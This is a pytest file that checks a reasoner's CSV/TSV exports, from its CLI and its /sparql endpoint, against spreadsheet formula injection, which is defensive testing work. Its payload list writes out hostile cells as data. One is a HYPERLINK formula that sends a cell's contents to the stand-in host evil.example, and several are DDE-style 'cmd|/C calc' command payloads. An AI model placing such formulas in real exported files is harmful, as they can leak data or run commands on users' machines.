"""CSV and TSV formula injection (issue 18, item 6): a cell a spreadsheet would run as a formula comes
out as text, from ``necessity query --format csv|tsv`` and from ``/sparql`` with ``Accept: text/csv``
or ``text/tab-separated-values``. Each payload is listed with the cell it must become."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from api import Settings, create_app
from reasoner.cli.main import main
from reasoner.store import EmbeddedStore
from reasoner.tabular import defuse, defuse_csv, defuse_tsv

API_KEY = "hostile-csv-key-0123456789"  # a test value, not a secret

# (a value as stored, the cell a spreadsheet must get)
PAYLOADS = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("|calc", "'|calc"),
    ("%0A=1+1", "'%0A=1+1"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("-5", "-5"),  # a plain number stays a number
    ("1,234.5", "1,234.5"),
    ("safe text", "safe text"),
    ("", ""),
]


@pytest.mark.parametrize("value,cell", PAYLOADS)
def test_the_rule(value: str, cell: str) -> None:
    assert defuse(value) == cell


def _escaped(value: str) -> str:
    for raw, escaped in (("\\", "\\\\"), ('"', '\\"'), ("\t", "\\t"), ("\r", "\\r"), ("\n", "\\n")):
        value = value.replace(raw, escaped)
    return value


def _query() -> str:
    rows = " ".join(f'("{_escaped(v)}")' for v, _cell in PAYLOADS if v)
    return f"SELECT ?v WHERE {{ VALUES (?v) {{ {rows} }} }}"


def _cells_csv(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["v"]
    return [row[0] for row in rows[1:] if row]


def _expected() -> list[str]:
    return [cell for value, cell in PAYLOADS if value]


def test_necessity_query_csv(capsys) -> None:
    assert main(["query", "-e", _query(), "--format", "csv"]) == 0
    assert _cells_csv(capsys.readouterr().out) == _expected()


def _tsv_text(line: str) -> str:
    assert line.startswith('"') and line.endswith('"'), line
    return line[1:-1].replace("\\t", "\t").replace("\\r", "\r").replace('\\"', '"').replace("\\\\", "\\")


def test_necessity_query_tsv(capsys) -> None:
    assert main(["query", "-e", _query(), "--format", "tsv"]) == 0
    lines = [line for line in capsys.readouterr().out.split("\n") if line]
    assert lines[0] == "?v"
    assert [_tsv_text(line) for line in lines[1:]] == _expected()


@pytest.fixture(scope="module")
def client(necessity_engine, tmp_path_factory: pytest.TempPathFactory):
    store = EmbeddedStore(tmp_path_factory.mktemp("hostile-csv"))
    app = create_app(Settings(api_keys=(API_KEY,)), engine=necessity_engine, store=store)
    with TestClient(app, headers={"X-API-Key": API_KEY}) as c:
        yield c
    store.close()


def test_sparql_csv(client: TestClient) -> None:
    r = client.get("/sparql", params={"query": _query()}, headers={"Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert _cells_csv(r.text) == _expected()


def test_sparql_tsv(client: TestClient) -> None:
    r = client.get("/sparql", params={"query": _query()}, headers={"Accept": "text/tab-separated-values"})
    assert r.status_code == 200
    lines = [line for line in r.text.split("\n") if line]
    assert [_tsv_text(line) for line in lines[1:]] == _expected()


def test_json_results_keep_every_value_as_stored(client: TestClient) -> None:
    r = client.get("/sparql", params={"query": _query()}, headers={"Accept": "application/sparql-results+json"})
    values = [b["v"]["value"] for b in r.json()["results"]["bindings"]]
    assert values == [value for value, _cell in PAYLOADS if value]


def test_terms_other_than_literals_are_left_alone() -> None:
    tsv = '?a\t?b\t?c\t?d\n<http://x/=1>\t_:b0\t-5\t"-1+1"^^<http://www.w3.org/2001/XMLSchema#string>\n'
    assert defuse_tsv(tsv) == ('?a\t?b\t?c\t?d\n<http://x/=1>\t_:b0\t-5\t'
                               '"\'-1+1"^^<http://www.w3.org/2001/XMLSchema#string>\n')
    assert defuse_csv('a,b\r\n=1,"x,=y"\r\n') == "a,b\r\n'=1,\"x,=y\"\r\n"
